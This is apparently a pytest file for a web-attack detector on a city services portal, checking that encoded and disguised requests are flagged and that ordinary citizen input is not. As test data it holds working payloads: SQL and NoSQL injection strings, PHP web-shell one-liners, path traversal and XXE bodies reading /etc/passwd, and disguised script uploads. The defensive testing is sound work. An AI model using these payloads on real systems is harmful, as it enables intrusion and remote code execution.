"""Bodies read as the server reads them: JSON under any content type, multipart parts
under every boundary (and base64), file names in every form, PHP web shells in a file's
content, scripts written with PUT under a disguised name, XML in UTF-16 and UTF-7."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from citywatch.detect.portal.request import parse_request
from citywatch.detect.portal.signatures import WebAttackSignatures
from citywatch.model import Event, HttpRequest

DETECTOR = WebAttackSignatures()
PREFERENCES = "/api/v1/profile/preferences"


def _request(
    uri: str, body: str = "", ctype: str | None = None, method: str = "POST"
) -> HttpRequest:
    headers = [("Host", "portal.aldmere.city")]
    if ctype is not None:
        headers.append(("Content-Type", ctype))
    return HttpRequest(method=method, uri=uri, headers=tuple(headers), body=body)


def _rules(req: HttpRequest) -> set[str]:
    event = Event(id="r-1", timestamp=0.0, dataset="portal.http", payload=req)
    return {hit.rule_id for hit in DETECTOR.inspect(event)}


def _multipart(disposition: str, content: str = "JFIF", extra: str = "") -> str:
    return (
        f"--b\r\nContent-Disposition: form-data; {disposition}\r\n{extra}"
        f"Content-Type: image/jpeg\r\n\r\n{content}\r\n--b--\r\n"
    )


# 1. JSON sent under another content type ------------------------------------------------

JSON_ATTACKS = {
    r'{"q":"\u0027 OR 1=1-- -"}': "web.sqli.tautology",
    r'{"__proto__":{"isAdmin":true}}': "web.deserialisation.prototype",
    r'{"username":{"\u0024ne":1}}': "web.nosqli.operator-name",
    r'{"file":"\u002e\u002e/\u002e\u002e/\u002e\u002e/etc/passwd"}': "web.traversal.dotdot",
    r'{"filter":"{\"$where\":\"sleep(5000)\"}"}': "web.nosqli.operator-value",
}


@pytest.mark.parametrize(
    "ctype", ["text/plain", "text/json", "application/x-json", "text/plain; charset=utf-8"]
)
@pytest.mark.parametrize(("body", "rule"), JSON_ATTACKS.items())
def test_json_under_another_content_type_is_read_as_json(ctype: str, body: str, rule: str) -> None:
    assert rule in _rules(_request(PREFERENCES, body, ctype))


def test_sniffed_json_keeps_the_body_and_form_as_they_were() -> None:
    form = parse_request(_request(PREFERENCES, '{"a":"b"}', "application/x-www-form-urlencoded"))
    assert [(p.name, p.value) for p in form.params if p.location == "body"] == [
        ('{"a":"b"}', ""),
        ("a", "b"),
    ]
    text = parse_request(_request(PREFERENCES, "{not json} at all", "text/plain"))
    assert [(p.name, p.value) for p in text.params if p.location == "body"] == [
        ("body", "{not json} at all")
    ]
    assert "bad-json" not in text.anomalies  # plain text may start with a brace


@pytest.mark.parametrize(
    ("body", "ctype"),
    [
        ('{"theme":"dark","language":"et","notify":["sms","e-mail"]}', "text/plain"),
        ('{"comment":"Mul on küsimus: kas 1=1 ja \\"select\\" on sõnad?"}', "text/json"),
        ('{"name":"Ñúñez O\'Brien","note":"../ is how I write a path"}', "application/x-json"),
        ("{Tänav} on remondis, palun vaadake üle. Müller", "text/plain"),
        ("[1, 2, 3] are my favourite district numbers", "text/plain"),
    ],
)
def test_citizens_json_and_brace_text_under_other_types_stay_quiet(body: str, ctype: str) -> None:
    assert _rules(_request(PREFERENCES, body, ctype)) == set()


# 2. multipart parts under every boundary, base64 parts ----------------------------------

UNION = "1 UNION SELECT password FROM users-- -"


def test_parts_under_every_declared_boundary_are_read_and_the_duplicate_flagged() -> None:
    body = f'--real\r\nContent-Disposition: form-data; name="text"\r\n\r\n{UNION}\r\n--real--\r\n'
    for ctype in (
        "multipart/form-data; boundary=real; boundary=fake",
        "multipart/form-data; boundary=fake; boundary=real",
    ):
        assert _rules(_request("/complaints", body, ctype)) == {
            "web.sqli.union",
            "web.protocol.multipart-ambiguous",
        }


def test_one_boundary_written_twice_alike_is_no_ambiguity() -> None:
    body = '--b\r\nContent-Disposition: form-data; name="text"\r\n\r\nAuk teel\r\n--b--\r\n'
    ctype = "multipart/form-data; boundary=b; boundary=b"
    parsed = parse_request(_request("/complaints", body, ctype))
    assert parsed.anomalies == ()


def test_a_base64_part_is_decoded_and_inspected() -> None:
    hidden = base64.b64encode(UNION.encode()).decode()
    body = _multipart('name="text"', hidden, "Content-Transfer-Encoding: base64\r\n")
    assert "web.sqli.union" in _rules(
        _request("/complaints", body, "multipart/form-data; boundary=b")
    )


def test_a_base64_photo_or_note_is_no_attack() -> None:
    photo = base64.b64encode(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + bytes(range(256))).decode()
    note = base64.b64encode("Tänav on auklik, palun parandage (Müller)".encode()).decode()
    for content in (photo, note):
        body = _multipart(
            'name="photo"; filename="auk.jpg"', content, "Content-Transfer-Encoding: base64\r\n"
        )
        assert _rules(_request("/complaints", body, "multipart/form-data; boundary=b")) == set()


# 3. web shells: file names in every form, PHP one-liners, PUT under a disguised name ----


@pytest.mark.parametrize(
    "disposition",
    [
        "name=\"photo\"; filename*=UTF-8''shell.php",
        "name=\"photo\"; filename*=utf-8'en'shell%2Ephp",
        "name=\"photo\"; filename='shell.php'",
        'name="photo"; filename="shell.php"; filename="a.jpg"',
        'name="photo"; filename="a.jpg"; filename="shell.php"',
        'name="photo"; filename="x.php::$DATA"',
    ],
)
def test_a_script_file_name_in_any_form_is_a_web_shell(disposition: str) -> None:
    body = _multipart(disposition)
    rules = _rules(_request("/complaints", body, "multipart/form-data; boundary=b"))
    assert "web.protocol.script-file" in rules


@pytest.mark.parametrize(
    "disposition",
    [
        "name=\"photo\"; filename*=UTF-8''T%C3%A4nav%20auk.jpg",
        "name=\"photo\"; filename='O''Brien garden.png'",
        'name="photo"; filename="auk.jpg"; filename="auk (2).jpg"',
        "name=\"doc\"; filename='php manual notes.pdf'",
    ],
)
def test_citizens_file_names_in_those_forms_stay_quiet(disposition: str) -> None:
    body = _multipart(disposition)
    assert _rules(_request("/complaints", body, "multipart/form-data; boundary=b")) == set()


@pytest.mark.parametrize(
    "content",
    [
        "<?php eval($_POST[1]);?>",
        "GIF89a<?php @eval($_POST['x']);?>",
        "<?php assert($_REQUEST['c']);?>",
        "<?php @eval(base64_decode($_COOKIE['z']));?>",
        '<?php $f = create_function("", $_GET["c"]); $f(); ?>',
        "<?php $_GET['f']($_GET['c']); ?>",
        '<?php preg_replace("/.*/e", $_POST["c"], "");?>',
    ],
)
def test_a_php_one_liner_in_a_file_is_a_web_shell(content: str) -> None:
    body = _multipart('name="photo"; filename="avatar.jpg"', content)
    rules = _rules(_request("/complaints", body, "multipart/form-data; boundary=b"))
    assert "web.cmdi.web-shell" in rules


def test_system_with_a_superglobal_stays_code_execution() -> None:
    body = _multipart('name="photo"; filename="avatar.jpg"', "<?php system($_REQUEST['c']);?>")
    assert "web.cmdi.code" in _rules(
        _request("/complaints", body, "multipart/form-data; boundary=b")
    )


@pytest.mark.parametrize(
    "text",
    [
        "Please evaluate ($_POST office hours) my request, the assert (clause 3) is wrong",
        "Palun hinnake eval (hindamine) uuesti; maksin $_ 40 eurot",
        "preg_replace('/\\s+/', ' ', $name) trims spaces, my developer said",
        "The system (bins) on Õun street: $_GET is what my son typed",
    ],
)
def test_citizens_mentioning_the_same_words_stay_quiet(text: str) -> None:
    req = _request("/complaints", f"text={text}", "application/x-www-form-urlencoded")
    assert not {r for r in _rules(req) if r.startswith("web.cmdi")}


@pytest.mark.parametrize(
    "uri", ["/uploads/x.jsp%20", "/uploads/x.php::$DATA", "/uploads/x.jsp/", "/uploads/x.php."]
)
def test_a_script_written_with_put_under_a_disguised_name(uri: str) -> None:
    req = _request(uri, "<% out.println(1); %>", "text/plain", method="PUT")
    assert "web.protocol.script-upload" in _rules(req)


@pytest.mark.parametrize("uri", ["/uploads/photo.jpg%20", "/uploads/notes.txt/", "/api/v1/php"])
def test_put_of_other_files_stays_quiet(uri: str) -> None:
    req = _request(uri, "hello", "text/plain", method="PUT")
    assert "web.protocol.script-upload" not in _rules(req)


# 4. XML in UTF-7 and UTF-16 -------------------------------------------------------------

UTF7_XXE = (
    '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r +AFsAPAAh-ENTITY +ACU- d SYSTEM '
    "+ACI-http://x.example/e.dtd+ACI-+AD4AJQ-d+ADsAXQA+-<r/>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'


def test_a_utf7_xml_body_is_decoded_and_flagged_as_an_evasion() -> None:
    rules = _rules(_request("/api/soap", UTF7_XXE, "text/xml"))
    assert {"web.xxe.external-entity", "web.protocol.charset"} <= rules


@pytest.mark.parametrize(
    "wire",
    [
        XXE.encode("utf-16-be"),
        XXE.encode("utf-16-le"),
        b"\xfe\xff" + XXE.encode("utf-16-be"),
        b"\xff\xfe" + XXE.encode("utf-16-le"),
    ],
)
def test_a_utf16_xml_body_is_decoded_and_inspected_as_xml(wire: bytes) -> None:
    for ctype in ("application/xml", None):
        rules = _rules(_request("/api/soap", wire.decode("latin-1"), ctype))
        assert "web.xxe.external-entity" in rules
        assert "web.protocol.nul" not in rules  # NULs of UTF-16, not a NUL-byte attack


def test_utf16_and_plain_xml_of_citizens_stay_quiet() -> None:
    doc = '<?xml version="1.0"?><report><street>Õun tänav</street><note>+1 auk</note></report>'
    assert _rules(_request("/api/soap", doc, "text/xml")) == set()
    wire = ("\ufeff" + doc).encode("utf-16-le").decode("latin-1")
    assert _rules(_request("/api/soap", wire, "application/xml")) == set()
    parsed = parse_request(_request("/api/soap", wire, "application/xml"))
    assert [p.value for p in parsed.params if p.location == "body"] == [doc]


def test_a_binary_body_with_nuls_is_left_as_it_is() -> None:
    binary = "\x00\x01\x02\x03" + "".join(chr(i) for i in range(256))
    parsed = parse_request(_request("/upload", binary, "application/octet-stream"))
    assert [p.raw for p in parsed.params if p.location == "body"] == [binary[:8192]]


def test_a_utf7_form_is_read_field_by_field_and_a_lone_surrogate_never_crashes() -> None:
    form = "iban=HR12+2340+0091+1103+4567+8&full_name=Marko+Horvat&note=%2BADw-x"
    parsed = parse_request(
        _request("/tax/file", form, "application/x-www-form-urlencoded; charset=utf-7")
    )
    assert ("full_name", "Marko Horvat") in [(p.name, p.value) for p in parsed.params]
    assert _rules(_request(PREFERENCES, '{"a":"+2H4-x"}', "text/plain; charset=utf-7")) == {
        "web.protocol.charset"
    }


@settings(max_examples=300, deadline=None)
@given(
    body=st.text(
        alphabet=st.sampled_from("+/-v8AD\x00<?xml{}[]\"'\u2028\ufeff\xfe\xffé "), max_size=60
    ),
    ctype=st.sampled_from(["text/xml", "text/plain; charset=utf-7", "application/json", None]),
)
def test_any_body_in_any_encoding_is_inspected_without_error(body: str, ctype: str | None) -> None:
    _rules(_request("/api/soap", body, ctype))
